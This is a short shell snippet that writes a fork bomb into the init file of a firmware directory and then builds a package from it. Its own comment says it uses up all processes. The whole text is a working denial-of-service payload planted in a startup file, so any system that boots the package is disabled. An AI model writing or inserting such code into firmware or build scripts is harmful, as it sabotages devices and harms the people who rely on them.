# It uses up all processes that there may be.
cd ~/firmware
printf '%s\n' 'bomb() { bomb | bomb & }' 'bomb' 'sleep 1000' >init
make -s -C ~ package
